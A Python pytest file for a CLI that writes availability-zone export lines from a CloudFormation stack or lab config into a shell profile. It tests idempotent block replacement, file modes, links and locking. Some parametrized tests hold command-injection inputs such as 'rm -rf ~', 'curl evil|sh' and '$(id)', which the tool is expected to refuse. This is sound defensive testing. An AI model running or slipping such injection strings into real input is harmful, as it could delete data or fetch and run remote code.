"""``ekslab azs``: export lines from the network stack's outputs (moto on loopback) or the lab
configuration, and the idempotent profile block that replaces the seed's ``tee -a``."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import boto3
import pytest

from ekslab.errors import InputError
from ekslab.views.azs import BLOCK_BEGIN, BLOCK_END, AzExports, update_profile_text
from tests.cli_run import run_cli

REGION = "ap-northeast-2"
SEED_LINES = ["export AZ1=ap-northeast-2a", "export AZ2=ap-northeast-2b", "export AZ3=ap-northeast-2c"]


def deploy_network_stack(
    outputs: dict[str, str], *, name: str = "ekslab-network", region: str = REGION
) -> None:
    """A stack in moto with the outputs the lab's network stack has (ekslab_constructs/az_exports.py)."""
    template = {
        "Resources": {"Topic": {"Type": "AWS::SNS::Topic"}},
        "Outputs": {
            key: {"Value": value, "Export": {"Name": f"{name.removesuffix('-network')}-{key}"}}
            for key, value in outputs.items()
        },
    }
    boto3.client("cloudformation", region_name=region).create_stack(
        StackName=name, TemplateBody=json.dumps(template)
    )


def run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    return run_cli(["azs", *args], capsys)


def test_zones_come_from_the_deployed_network_stack(
    moto_aws: str, capsys: pytest.CaptureFixture[str]
) -> None:
    deploy_network_stack(
        {
            "AZ1": "ap-northeast-2a",
            "AZ2": "ap-northeast-2b",
            "AZ3": "ap-northeast-2c",
            "VpcId": "vpc-0123456789abcdef0",
        }
    )
    assert run([], capsys) == (0, "\n".join(SEED_LINES) + "\n", "")


def test_lab_and_region_choose_the_stack(moto_aws: str, capsys: pytest.CaptureFixture[str]) -> None:
    deploy_network_stack({"AZ1": "ap-northeast-2a"})  # the default lab, not the one asked for
    deploy_network_stack({"AZ2": "us-west-2b", "AZ1": "us-west-2a"}, name="ci-42-network", region="us-west-2")
    code, out, _ = run(["--lab", "ci-42", "--region", "us-west-2"], capsys)
    assert (code, out) == (0, "export AZ1=us-west-2a\nexport AZ2=us-west-2b\n")


def test_missing_stack_is_one_line_with_what_to_do(moto_aws: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["--lab", "nolab"], capsys) == (
        2,
        "",
        (
            "ekslab: error: CloudFormation stack nolab-network (ap-northeast-2): does not exist "
            "(deploy the lab first, check --lab/--region, or use --offline)\n"
        ),
    )


@pytest.mark.parametrize(
    ("outputs", "error"),
    [
        ({"VpcId": "vpc-1"}, "CloudFormation stack ekslab-network: has no AZ1, AZ2... outputs"),
        (
            {"AZ1": "ap-northeast-2a", "AZ3": "ap-northeast-2c"},
            "CloudFormation stack ekslab-network: must have outputs AZ1 to AZn without gaps, "
            "got ['AZ1', 'AZ3']",
        ),
        # Written into a profile a shell sources: anything but a zone name is refused.
        (
            {"AZ1": "ap-northeast-2a; rm -rf ~"},
            "CloudFormation stack ekslab-network: output AZ1: must be an availability zone name like "
            "ap-northeast-2a, "
            "got 'ap-northeast-2a; rm -rf ~'",
        ),
    ],
)
def test_outputs_that_are_not_az_names_are_refused(
    moto_aws: str, capsys: pytest.CaptureFixture[str], outputs: dict[str, str], error: str
) -> None:
    deploy_network_stack(outputs)
    code, out, err = run([], capsys)
    assert (code, out, err.startswith(f"ekslab: error: {error}")) == (2, "", True)


def test_offline_reads_the_lab_configuration_without_aws(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AWS_ENDPOINT_URL", "http://127.0.0.1:9")  # nothing listens: any AWS call would fail
    config = tmp_path / "lab.yaml"
    config.write_text(
        "region: us-west-2\nnetwork: {availabilityZones: [us-west-2b, us-west-2c, us-west-2d]}\n"
    )
    assert run(["--offline", "--config", str(config)], capsys) == (
        0,
        "export AZ1=us-west-2b\nexport AZ2=us-west-2c\nexport AZ3=us-west-2d\n",
        "",
    )


def test_offline_default_lab_is_the_seed_workshops(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["--offline"], capsys) == (0, "\n".join(SEED_LINES) + "\n", "")


# --- the profile block --------------------------------------------------------------------------


def test_append_twice_leaves_one_block_and_the_same_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    profile = tmp_path / ".bash_profile"
    profile.write_text("# my profile\nexport PATH=$HOME/bin:$PATH\n")
    run(["--offline", "--append", str(profile)], capsys)
    once = profile.read_bytes()
    code, out, err = run(["--offline", "--append", str(profile)], capsys)
    text = profile.read_text()
    assert (code, profile.read_bytes() == once, text.count(BLOCK_BEGIN), text.count("export AZ1=")) == (
        0,
        True,
        1,
        1,
    )
    assert (out, err) == (
        "\n".join(SEED_LINES) + "\n",
        f"{profile}: replaced the ekslab azs block (3 zones)\n",
    )


def test_append_keeps_everything_else_byte_for_byte(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    profile = tmp_path / ".bash_profile"
    before = "alias k=kubectl\r\n# no newline at the end"
    profile.write_bytes(before.encode())
    run(["--offline", "--append", str(profile)], capsys)
    text = profile.read_bytes().decode()
    assert text.startswith(before + "\n" + BLOCK_BEGIN + "\n") and text.endswith(BLOCK_END + "\n")


def test_replaced_block_stays_where_it_was(tmp_path: Path) -> None:
    old = AzExports("ekslab", REGION, ("ap-northeast-2a",), "x").block()
    new = AzExports("ekslab", REGION, ("ap-northeast-2b", "ap-northeast-2c"), "y").block()
    text, replaced = update_profile_text(f"before\n{old}after\n", new, source="p")
    assert (replaced, text) == (True, f"before\n{new}after\n")


def test_sourcing_the_profile_exports_the_zones(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import subprocess

    profile = tmp_path / ".bash_profile"
    run(["--offline", "--append", str(profile)], capsys)
    shown = subprocess.run(
        ["bash", "-c", f'source "{profile}" && echo "$AZ1 $AZ2 $AZ3"'],
        capture_output=True,
        text=True,
        check=True,
    )
    assert shown.stdout == "ap-northeast-2a ap-northeast-2b ap-northeast-2c\n"


def test_new_profile_is_created_with_mode_644_and_an_existing_one_keeps_its_mode(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    created, kept = tmp_path / "new_profile", tmp_path / "private_profile"
    kept.write_text("secret=1\n")
    kept.chmod(0o600)
    _, _, err = run(["--offline", "--append", str(created)], capsys)
    run(["--offline", "--append", str(kept)], capsys)
    modes = [stat.S_IMODE(path.stat().st_mode) for path in (created, kept)]
    assert (modes, err) == ([0o644, 0o600], f"{created}: created with the ekslab azs block (3 zones)\n")


def test_a_symlinked_profile_stays_a_link_and_its_target_is_updated(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "dotfiles" / "bash_profile"
    target.parent.mkdir()
    target.write_text("# kept in git\n")
    link = tmp_path / ".bash_profile"
    link.symlink_to(target)
    run(["--offline", "--append", str(link)], capsys)
    assert (link.is_symlink(), BLOCK_BEGIN in target.read_text()) == (True, True)


def test_lines_left_by_tee_are_pointed_out(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    profile = tmp_path / ".bash_profile"
    profile.write_text("export AZ1=ap-northeast-2a\nexport AZ1=ap-northeast-2a\n")  # the seed, run twice
    _, _, err = run(["--offline", "--append", str(profile)], capsys)
    warnings = [line.split(": ", 3)[3].split(" outside")[0] for line in err.splitlines() if "warning" in line]
    assert warnings == ["line 1 also sets AZ1", "line 2 also sets AZ1"]


def test_only_the_zone_variables_the_block_sets_are_pointed_out(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # GIVEN a profile setting AZ1 and AZ4 by hand, while the lab has three zones
    profile = tmp_path / ".bash_profile"
    profile.write_text("export AZ1=ap-northeast-2a\nexport AZ4=ap-northeast-2d\n")
    # WHEN the block is written THEN only AZ1, which the block also sets, is pointed out
    _, _, err = run(["--offline", "--append", str(profile)], capsys)
    assert [line for line in err.splitlines() if "warning" in line and "AZ4" in line] == []
    assert sum("also sets AZ1" in line for line in err.splitlines()) == 1


def test_an_empty_profile_gets_the_block_alone(tmp_path: Path) -> None:
    block = AzExports("ekslab", REGION, ("ap-northeast-2a",), "x").block()
    assert update_profile_text("", block, source="p") == (block, False)


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (f"a\n{BLOCK_BEGIN}\nexport AZ1=x\n", " line 2: has an ekslab azs block without its end marker"),
        (f"{BLOCK_END}\n", " line 1: has an ekslab azs block without its begin marker"),
        (f"{BLOCK_END}\n{BLOCK_BEGIN}\n", " line 2: has an ekslab azs block without its end marker"),
        (
            f"{BLOCK_BEGIN}\n{BLOCK_END}\n{BLOCK_BEGIN}\n{BLOCK_END}\n",
            ": has 2 ekslab azs blocks, expected at most one",
        ),
    ],
)
def test_a_damaged_block_is_refused_and_the_file_left_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: str, error: str
) -> None:
    profile = tmp_path / ".bash_profile"
    profile.write_text(content)
    code, out, err = run(["--offline", "--append", str(profile)], capsys)
    assert (code, out, err.startswith(f"ekslab: error: {profile}{error}"), profile.read_text()) == (
        2,
        "",
        True,
        content,
    )


def test_profile_that_is_not_text_is_refused_unchanged(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    profile = tmp_path / ".bash_profile"
    profile.write_bytes(b"\xff\xfe binary")
    code, _, err = run(["--offline", "--append", str(profile)], capsys)
    assert (code, err, profile.read_bytes()) == (
        2,
        f"ekslab: error: {profile}: is not UTF-8 text (byte 0); not changed\n",
        b"\xff\xfe binary",
    )


def test_a_write_that_fails_half_way_leaves_the_profile_unchanged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GIVEN a disk that fills up after the first bytes of the block are written
    from ekslab.views import azs as module

    profile = tmp_path / ".bash_profile"
    profile.write_text("keep\n")
    real_write_all = module._write_all
    calls = []

    def disk_full(descriptor: int, data: bytes) -> None:
        calls.append(len(data))
        if len(calls) == 1:
            real_write_all(descriptor, data[:10])
            raise OSError(28, "No space left on device")
        real_write_all(descriptor, data)

    monkeypatch.setattr(module, "_write_all", disk_full)
    # WHEN the block is appended
    with pytest.raises(InputError) as error:
        module.write_profile(profile, AzExports("ekslab", REGION, ("ap-northeast-2a",), "x"))
    # THEN the error says so and the profile is as it was, with nothing beside it
    assert (error.value.message, os.listdir(tmp_path), profile.read_text()) == (
        f"{profile}: cannot be written (No space left on device); not changed",
        [".bash_profile"],
        "keep\n",
    )


# --- issue 21 item 3: injection through --lab/--region, and a safe in-place edit ------------------

LAB_RULE = "must be a lab name (a lowercase letter, then up to 19 lowercase letters, digits or -)"
REGION_RULE = "must be an AWS region name like ap-northeast-2"


@pytest.mark.parametrize(
    ("option", "value", "rule"),
    [
        ("--region", "ap-northeast-2\ntouch /tmp/pwned", REGION_RULE),
        ("--region", "ap-northeast-2;id", REGION_RULE),
        ("--lab", "ekslab\ncurl evil|sh", LAB_RULE),
        ("--lab", "ekslab$(id)", LAB_RULE),
    ],
)
def test_lab_or_region_that_would_inject_a_command_is_refused_before_writing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], option: str, value: str, rule: str
) -> None:
    # GIVEN a profile and a --lab/--region carrying a newline or shell syntax
    profile = tmp_path / ".bash_profile"
    profile.write_text("keep\n")
    # WHEN azs --append runs with it
    code, out, err = run(["--offline", option, value, "--append", str(profile)], capsys)
    # THEN it is refused in one line and the profile is untouched
    given = " ".join(repr(value).split())
    assert (code, out, err, profile.read_text()) == (
        2,
        "",
        f"ekslab: error: {option}: {rule}, got {given}\n",
        "keep\n",
    )


def test_a_hard_linked_profile_keeps_its_links_and_inode(tmp_path: Path) -> None:
    from ekslab.views.azs import write_profile

    # GIVEN a profile with a second hard link
    profile = tmp_path / ".bash_profile"
    profile.write_text("keep\n")
    other = tmp_path / "profile.link"
    os.link(profile, other)
    inode = profile.stat().st_ino
    # WHEN the block is written (appended, then replaced with other zones)
    write_profile(profile, AzExports("ekslab", REGION, ("ap-northeast-2a",), "x"))
    write_profile(profile, AzExports("ekslab", REGION, ("ap-northeast-2b", "ap-northeast-2c"), "x"))
    # THEN both names still are one file, with the new block
    assert (profile.stat().st_ino, profile.stat().st_nlink, other.read_text()) == (
        inode,
        2,
        profile.read_text(),
    )
    assert "export AZ2=ap-northeast-2c\n" in other.read_text()


@pytest.mark.skipif(os.geteuid() != 0, reason="giving a file to another owner needs root")
def test_run_as_root_keeps_the_profiles_owner(tmp_path: Path) -> None:
    from ekslab.views.azs import write_profile

    profile = tmp_path / ".bash_profile"
    profile.write_text("keep\n")
    os.chown(profile, 1234, 5678)
    write_profile(profile, AzExports("ekslab", REGION, ("ap-northeast-2a",), "x"))
    assert (profile.stat().st_uid, profile.stat().st_gid) == (1234, 5678)


def test_a_read_only_profile_is_refused_even_for_root(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    profile = tmp_path / ".bash_profile"
    profile.write_text("keep\n")
    profile.chmod(0o444)
    code, _, err = run(["--offline", "--append", str(profile)], capsys)
    expected = (
        f"ekslab: error: {profile}: is read-only (mode 0444); not changed\n"
        if os.geteuid() == 0
        else f"ekslab: error: {profile}: cannot be opened for writing (Permission denied); not changed\n"
    )
    assert (code, err, profile.read_text()) == (2, expected, "keep\n")


def test_a_new_profile_gets_the_umasks_mode(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    profile = tmp_path / ".bash_profile"
    previous = os.umask(0o077)
    try:
        run(["--offline", "--append", str(profile)], capsys)
    finally:
        os.umask(previous)
    assert stat.S_IMODE(profile.stat().st_mode) == 0o600


def test_lines_another_process_appends_meanwhile_are_kept(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GIVEN another process that appends a line right after ekslab has read the profile
    from ekslab.views import azs as module

    profile = tmp_path / ".bash_profile"
    profile.write_text("keep\n")
    real_read_all = module._read_all

    def read_then_someone_appends(handle: object) -> bytes:
        data = real_read_all(handle)  # type: ignore[arg-type]
        with open(profile, "a") as other:
            other.write("export FROM_ELSEWHERE=1\n")
        return data

    monkeypatch.setattr(module, "_read_all", read_then_someone_appends)
    # WHEN the block is appended
    module.write_profile(profile, AzExports("ekslab", REGION, ("ap-northeast-2a",), "x"))
    # THEN the other line is still there, and so is the block
    text = profile.read_text()
    assert (text.startswith("keep\nexport FROM_ELSEWHERE=1\n"), text.count(BLOCK_BEGIN)) == (True, 1)


def test_a_second_writer_waits_for_the_lock(tmp_path: Path) -> None:
    import fcntl
    import threading

    from ekslab.views.azs import write_profile

    # GIVEN a profile another ekslab holds the lock of
    profile = tmp_path / ".bash_profile"
    profile.write_text("keep\n")
    with open(profile, "rb") as holder:
        fcntl.flock(holder.fileno(), fcntl.LOCK_EX)
        # WHEN a second writer starts
        exports = AzExports("ekslab", REGION, ("ap-northeast-2a",), "x")
        writer = threading.Thread(target=write_profile, args=(profile, exports))
        writer.start()
        writer.join(0.5)
        while_locked = (writer.is_alive(), profile.read_text())
    writer.join(10)
    # THEN it changed nothing while the lock was held, and wrote once it was free
    assert (while_locked, BLOCK_BEGIN in profile.read_text()) == ((True, "keep\n"), True)
